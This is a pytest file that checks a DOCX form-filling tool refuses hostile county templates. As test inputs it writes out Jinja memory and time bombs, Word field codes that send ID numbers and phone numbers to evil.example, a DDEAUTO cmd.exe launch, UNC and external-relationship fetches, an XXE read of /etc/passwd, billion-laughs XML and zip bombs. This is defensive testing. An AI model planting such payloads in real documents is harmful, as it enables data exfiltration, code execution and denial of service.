"""Hostile county templates: each is refused with a Chinese message, exit 1, nothing written,
in bounded time and memory — by ``fanpin templates check`` and by ``fanpin fill --template``.

Every template starts from ``fanpin templates build annex2`` output and is edited with
zipfile the way a hostile (or careless) editor would.
"""

from __future__ import annotations

import io
import json
import os
import resource
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from fanpin_forms.errors import Code
from fanpin_forms.util import limits

from .conftest import TEST_ENV

from .conftest import household, make_id
from .test_render_samples import root

#: address space for the subprocess runs: the CLI needs ~400 MB, the attacks ask for more
MEMORY_LIMIT = 700 * 1024 * 1024


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> bytes:
    """annex2.docx as ``fanpin templates build annex2 -o DIR`` writes it."""
    from click.testing import CliRunner

    from fanpin_forms.app import App

    out = tmp_path_factory.mktemp("built")
    result = CliRunner().invoke(root, ["templates", "build", "annex2", "-o", str(out)], obj=App())
    assert result.exit_code == 0, result.output
    return (out / "annex2.docx").read_bytes()


def edited(data: bytes, *, replace: dict[str, tuple[str, str]] | None = None,
           add: dict[str, bytes] | None = None) -> bytes:
    """A copy of the DOCX: ``replace[part] = (old, new)`` once in that part, ``add`` new entries."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for item in src.infolist():
            blob = src.read(item.filename)
            if replace and item.filename in replace:
                old, new = replace[item.filename]
                text = blob.decode("utf-8")
                assert old in text, (item.filename, old)
                blob = text.replace(old, new, 1).encode("utf-8")
            z.writestr(item, blob)
        for name, blob in (add or {}).items():
            z.writestr(name, blob)
    return out.getvalue()


def body(data: bytes, old: str, new: str) -> bytes:
    return edited(data, replace={"word/document.xml": (old, new)})


def write(tmp_path: Path, data: bytes, name: str = "county.docx") -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def data_file(tmp_path: Path, **overrides) -> Path:
    path = tmp_path / "hh.json"
    path.write_text(json.dumps([household(**overrides)], ensure_ascii=False), encoding="utf-8")
    return path


def check(app, runner, template: Path):
    return runner.invoke(root, ["templates", "check", "annex2", "--template", str(template)], obj=app)


def fill(app, runner, tmp_path: Path, template: Path, **overrides):
    out = tmp_path / "out"
    result = runner.invoke(root, ["fill", "annex2", "--data", str(data_file(tmp_path, **overrides)), "--year", "2022",
                                  "--template", str(template), "-o", str(out)], obj=app)
    return result, out


def assert_refused(result, out: Path | None, *fragments: str) -> None:
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    for fragment in fragments:
        assert fragment in result.output, result.output
    if out is not None:
        assert not out.exists() or not any(out.iterdir()), list(out.iterdir())


def run_limited(args: list[str], cwd: Path) -> subprocess.CompletedProcess:
    """The real ``fanpin`` in its own process with at most :data:`MEMORY_LIMIT` of address space."""
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))

    env = {k: v for k, v in os.environ.items() if not k.startswith("FANPIN_FORMS_") or k in TEST_ENV}
    return subprocess.run([sys.executable, "-m", "fanpin_forms", *args], cwd=cwd, env=env, preexec_fn=limit,
                          capture_output=True, text=True, timeout=60)


# --- item 9: templates that hang or eat memory -----------------------------------------


def test_range_of_a_billion_is_refused_at_check_and_fill(app, runner, built, tmp_path):
    bad = write(tmp_path, body(built, "{{ f_phone }}", "{% for i in range(10**9) %}x{% endfor %}{{ f_phone }}"))
    start = time.monotonic()
    assert_refused(check(app, runner, bad), None, "county.docx", "range() 最多 10,000 个数")
    result, out = fill(app, runner, tmp_path, bad)
    assert_refused(result, out, "county.docx", "超出限制", "未生成任何文件")
    assert time.monotonic() - start < 10


def test_nested_loops_stop_at_the_time_limit(app, runner, built, tmp_path, monkeypatch):
    monkeypatch.setattr(limits, "RENDER_SECONDS_PER_FORM", 0.5)
    loops = "{% for i in range(10000) %}{% for j in range(10000) %}{% endfor %}{% endfor %}"
    bad = write(tmp_path, body(built, "{{ f_phone }}", loops + "{{ f_phone }}"))
    start = time.monotonic()
    assert_refused(check(app, runner, bad), None, "填写一份表超过了 0.5 秒")
    result, out = fill(app, runner, tmp_path, bad)
    assert_refused(result, out, "填写一份表超过了 0.5 秒")
    assert time.monotonic() - start < 8


def test_exponential_macro_stops_at_the_time_limit(app, runner, built, tmp_path, monkeypatch):
    monkeypatch.setattr(limits, "RENDER_SECONDS_PER_FORM", 0.5)
    macro = "{% macro f(n) %}{% if n %}{{ f(n-1) }}{{ f(n-1) }}{% endif %}{% endmacro %}{{ f(40) }}"
    bad = write(tmp_path, body(built, "{{ f_phone }}", macro + "{{ f_phone }}"))
    start = time.monotonic()
    assert_refused(check(app, runner, bad), None, "超过了 0.5 秒")
    assert time.monotonic() - start < 5


@pytest.mark.parametrize("expr, fragment", [
    ("{{ 'A' * 1500000000 }}", "运算「*」的结果太大"),
    ("{{ 'A'|center(1500000000) }}", "过滤器「center」的结果太大"),
    ("{{ '%1500000000s' % 'A' }}", "宽度 1500000000 太大"),
    ("{{ 10 ** (10 ** 10) }}", "位的整数"),
    ("{% set s = 'A' * 1000000 %}{{ ([s] * 100000)|join }}", "结果太大"),
    ("{% macro m() %}{% for i in range(10000) %}{{ 'A' * 100000 }}{% endfor %}{% endmacro %}{{ m() }}", "超过了 16 MB"),
    ("{{ 1 / 0 }}", "ZeroDivisionError"),
    ("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}", "嵌套太深"),
])
def test_oversized_values_are_refused_before_they_are_made(app, runner, built, tmp_path, expr, fragment):
    bad = write(tmp_path, body(built, "{{ f_phone }}", expr + "{{ f_phone }}"))
    start = time.monotonic()
    assert_refused(check(app, runner, bad), None, "county.docx", fragment)
    assert time.monotonic() - start < 5


def test_a_billion_and_a_half_characters_in_a_limited_process(built, tmp_path):
    """The real CLI under RLIMIT_AS: refused with a Chinese message, no MemoryError, no traceback."""
    write(tmp_path, body(built, "{{ f_phone }}", "{{ 'A' * 1500000000 }}{{ f_phone }}"))
    data_file(tmp_path)
    start = time.monotonic()
    proc = run_limited(["fill", "annex2", "--data", "hh.json", "--year", "2022", "--template", "county.docx",
                        "-o", "out"], tmp_path)
    assert time.monotonic() - start < 30
    assert proc.returncode == 1, proc.stderr
    assert "Traceback" not in proc.stderr and "MemoryError" not in proc.stderr
    assert "模板 county.docx 填写" in proc.stderr and "超出限制" in proc.stderr
    assert not (tmp_path / "out").exists()


def test_a_record_that_trips_a_limit_names_the_household_masked(app, runner, built, tmp_path):
    """The trial fills pass (the blow-up needs this household's name); the real fill stops,
    naming the form and the household by the line under its QR code, masked, and writes nothing."""
    case_id = make_id(seq="555")
    trap = "{% if v_head_name == '张三' %}{{ 'A' * 1500000000 }}{% endif %}{{ f_phone }}"
    bad = write(tmp_path, body(built, "{{ f_phone }}", trap))
    result, out = fill(app, runner, tmp_path, bad, **{"户编号": case_id})
    assert_refused(result, out, "county.docx", "annex2", "运算「*」的结果太大", "未生成任何文件")
    assert case_id not in result.output and f"C:{case_id[:4]}{'*' * 14}" in result.output


@pytest.mark.parametrize("n, workers", [(5, 1), (60, 2)])
def test_a_limit_tripped_mid_batch_leaves_the_folder_as_it_was(app, runner, built, tmp_path, n, workers):
    """Household 3 of the batch trips a limit: none of this batch's forms appear (in the
    pool and without it), and a file already in the folder keeps its bytes."""
    trap = "{% if v_head_name == '李三' %}{{ 'A' * 1500000000 }}{% endif %}{{ f_phone }}"
    bad = write(tmp_path, body(built, "{{ f_phone }}", trap))
    rows = [household(**{"户编号": f"T-{i:03d}", "户主姓名": "李三" if i == 3 else "张三",
                         "身份证号码": make_id(seq=f"{i:03d}")}) for i in range(n)]
    data = tmp_path / "hh.json"
    data.write_text(json.dumps(rows, ensure_ascii=False), encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    (out / "earlier.docx").write_bytes(b"earlier run")
    result = runner.invoke(root, ["fill", "annex2", "--data", str(data), "--year", "2022", "--template", str(bad),
                                  "-o", str(out), "-j", str(workers)], obj=app)
    assert result.exit_code == 1, result.output
    assert "运算「*」的结果太大" in result.output and "Traceback" not in result.output
    assert sorted(p.name for p in out.iterdir()) == ["earlier.docx"]
    assert (out / "earlier.docx").read_bytes() == b"earlier run"


def test_ordinary_expressions_still_work(app, runner, built, tmp_path):
    fine = "{{ 'ok' ~ 1 }}{{ [1, 2]|join(',') }}{{ 'x'|center(5) }}{{ 3 * 4 }}{{ 'ab' * 3 }}" \
           "{% for i in range(3) %}{{ loop.index }}{% endfor %}{{ f_phone }}"
    good = write(tmp_path, body(built, "{{ f_phone }}", fine))
    result = check(app, runner, good)
    assert result.exit_code == 0, result.output
    assert "通过检查" in result.output and "试填一份用时" in result.output and "上限 2 秒" in result.output


# --- item 10: templates that send data out, bombs, XXE ---------------------------------


def _complex_field(instruction_pieces: list[str]) -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in instruction_pieces)
    return ('</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + runs
            + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>图</w:t></w:r>'
            + '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>')


FIELD_CASES = {
    # Word split the instruction over runs, as it does after an edit
    "includepicture": (_complex_field(['INCLUDEPICTURE "http://evil.example/p.png?id=', "{{ f_id_",
                                       'number }}" \\d']), Code.RENDER_TEMPLATE_FIELD_VAR),
    "simple-hyperlink": ('</w:t></w:r><w:fldSimple w:instr=" HYPERLINK &quot;https://evil.example/{{ f_phone }}&quot; ">'
                         '<w:r><w:t>x</w:t></w:r></w:fldSimple><w:r><w:t>', Code.RENDER_TEMPLATE_FIELD_VAR),
    "static-hyperlink": (_complex_field(['HYPERLINK "https://evil.example/"']), Code.RENDER_TEMPLATE_FIELD_FETCH),
    "ddeauto": (_complex_field(['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"']),
                Code.RENDER_TEMPLATE_FIELD_FETCH),
    "includetext-unc": (_complex_field(["INCLUDETEXT \\\\\\\\server\\\\share\\\\a.docx"]), Code.RENDER_TEMPLATE_FIELD_FETCH),
}


@pytest.mark.parametrize("case", sorted(FIELD_CASES))
def test_field_codes_that_fetch_or_carry_values_are_refused(app, runner, built, tmp_path, case):
    snippet, code = FIELD_CASES[case]
    bad = write(tmp_path, body(built, "{{ f_phone }}", "{{ f_phone }}" + snippet))
    expected_start = code.value.split("{path}")[1].split("{part}")[0]
    result = check(app, runner, bad)
    assert_refused(result, None, "county.docx", "word/document.xml", expected_start)
    fill_result, out = fill(app, runner, tmp_path, bad)
    assert_refused(fill_result, out, "word/document.xml", expected_start)
    if case == "includepicture":
        assert "域代码" in result.output and "身份证号" in result.output


def _rel(rid: str, kind: str, target: str) -> str:
    return (f'<Relationship Id="{rid}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
            f' Target="{target}" TargetMode="External"/>')


@pytest.mark.parametrize("part, rel, kind", [
    ("word/_rels/document.xml.rels", _rel("rIdX", "hyperlink", "https://evil.example/"), "超链接"),
    ("word/_rels/document.xml.rels", _rel("rIdX", "image", "http://evil.example/track.png"), "远程图片"),
    ("word/_rels/settings.xml.rels", _rel("rIdX", "attachedTemplate", "\\\\evil\\share\\normal.dotm"), "附加模板"),
])
def test_external_relationships_are_refused(app, runner, built, tmp_path, part, rel, kind):
    if part == "word/_rels/document.xml.rels":
        data = edited(built, replace={part: ("</Relationships>", rel + "</Relationships>")})
    else:
        data = edited(built, add={part: ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
                                         'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                                         + rel + "</Relationships>").encode()})
    bad = write(tmp_path, data)
    result = check(app, runner, bad)
    assert_refused(result, None, "county.docx", part, f"外部链接（{kind}")
    fill_result, out = fill(app, runner, tmp_path, bad)
    assert_refused(fill_result, out, part, "外部链接")


XXE = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
       '<!DOCTYPE w:hdr [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
       '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
       '<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:hdr>')
LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
          + ']><root>&lol9;</root>')


@pytest.mark.parametrize("part, xml", [("word/header1.xml", XXE), ("customXml/item2.xml", LAUGHS)])
def test_dtds_are_refused_in_any_part(app, runner, built, tmp_path, part, xml):
    """An untemplated header with an external entity, an unreferenced part with "billion laughs"."""
    data = edited(built, add={part: xml.encode()})
    if part == "word/header1.xml":
        header_rel = ('<Relationship Id="rIdH" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                      'relationships/header" Target="header1.xml"/>')
        data = edited(data, replace={"word/_rels/document.xml.rels": ("</Relationships>", header_rel + "</Relationships>")})
    bad = write(tmp_path, data)
    message = Code.RENDER_TEMPLATE_DTD.format(path="county.docx", part=part).split("（")[0].split("county.docx")[1]
    result = check(app, runner, bad)
    assert_refused(result, None, message)
    assert "root:" not in result.output  # /etc/passwd never read into anything
    fill_result, out = fill(app, runner, tmp_path, bad)
    assert_refused(fill_result, out, message)


def test_too_many_entries_and_too_high_a_ratio(app, runner, built, tmp_path):
    n = limits.ZIP_MAX_ENTRIES + 1
    many = write(tmp_path, edited(built, add={f"word/x/{i}.xml": b"<a/>" for i in range(n)}), "many.docx")
    total = len(zipfile.ZipFile(many).infolist())
    assert_refused(check(app, runner, many), None, "many.docx", "压缩炸弹",
                   f"压缩包内有 {total} 个条目，上限 {limits.ZIP_MAX_ENTRIES} 个")
    dense = write(tmp_path, edited(built, add={"word/media/zeros.bin": bytes(limits.ZIP_RATIO_FROM_BYTES + 1)}),
                  "dense.docx")
    assert_refused(check(app, runner, dense), None, "dense.docx", "「word/media/zeros.bin」的压缩比为",
                   f"上限 {limits.ZIP_MAX_RATIO}:1")


def _bomb(built: bytes, size: int) -> bytes:
    """The template plus one entry of ``size`` zero bytes, streamed (the test never holds it)."""
    out = io.BytesIO(built)
    out.seek(0, io.SEEK_END)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as z, \
            z.open("word/media/bomb.bin", "w", force_zip64=True) as fh:
        chunk = bytes(1 << 22)
        for _ in range(size // len(chunk)):
            fh.write(chunk)
    return out.getvalue()


def test_zip_bomb_in_a_limited_process(built, tmp_path):
    bomb = _bomb(built, 1 << 28)  # 256 MiB of zeros in ~1 MB: reading it (and a copy) would not fit
    assert len(bomb) < 2_000_000
    (tmp_path / "bomb.docx").write_bytes(bomb)
    start = time.monotonic()
    proc = run_limited(["templates", "check", "annex2", "--template", "bomb.docx"], tmp_path)
    assert time.monotonic() - start < 30
    assert proc.returncode == 1, proc.stderr
    assert "Traceback" not in proc.stderr and "MemoryError" not in proc.stderr
    assert "模板 bomb.docx 的压缩包异常" in proc.stderr and f"上限 {limits.ZIP_MAX_RATIO}:1" in proc.stderr


def test_the_built_template_passes_the_new_checks(app, runner, built, tmp_path):
    result = check(app, runner, write(tmp_path, built, "annex2.docx"))
    assert result.exit_code == 0, result.output


# --- item 12: templates build never writes into the bundled templates -------------------


def test_build_without_output_writes_to_the_current_folder(app, runner, tmp_path, monkeypatch):
    from fanpin_forms.util.resources import bundled

    shipped = bundled("templates") / "annex2.docx"
    before = (shipped.stat().st_mtime_ns, shipped.read_bytes())
    monkeypatch.chdir(tmp_path)
    result = runner.invoke(root, ["templates", "build", "annex2"], obj=app)
    assert result.exit_code == 0, result.output
    assert (tmp_path / "annex2.docx").is_file()
    assert (shipped.stat().st_mtime_ns, shipped.read_bytes()) == before

    # a clerk's edited copy is not overwritten by a second build …
    (tmp_path / "annex2.docx").write_bytes(b"edited by the clerk")
    result = runner.invoke(root, ["templates", "build", "annex2"], obj=app)
    assert result.exit_code == 1
    assert Code.RENDER_TEMPLATE_EXISTS.format(path="annex2.docx") in result.output
    assert (tmp_path / "annex2.docx").read_bytes() == b"edited by the clerk"
    # … unless asked to
    result = runner.invoke(root, ["templates", "build", "annex2", "--force"], obj=app)
    assert result.exit_code == 0, result.output
    assert (tmp_path / "annex2.docx").read_bytes() != b"edited by the clerk"
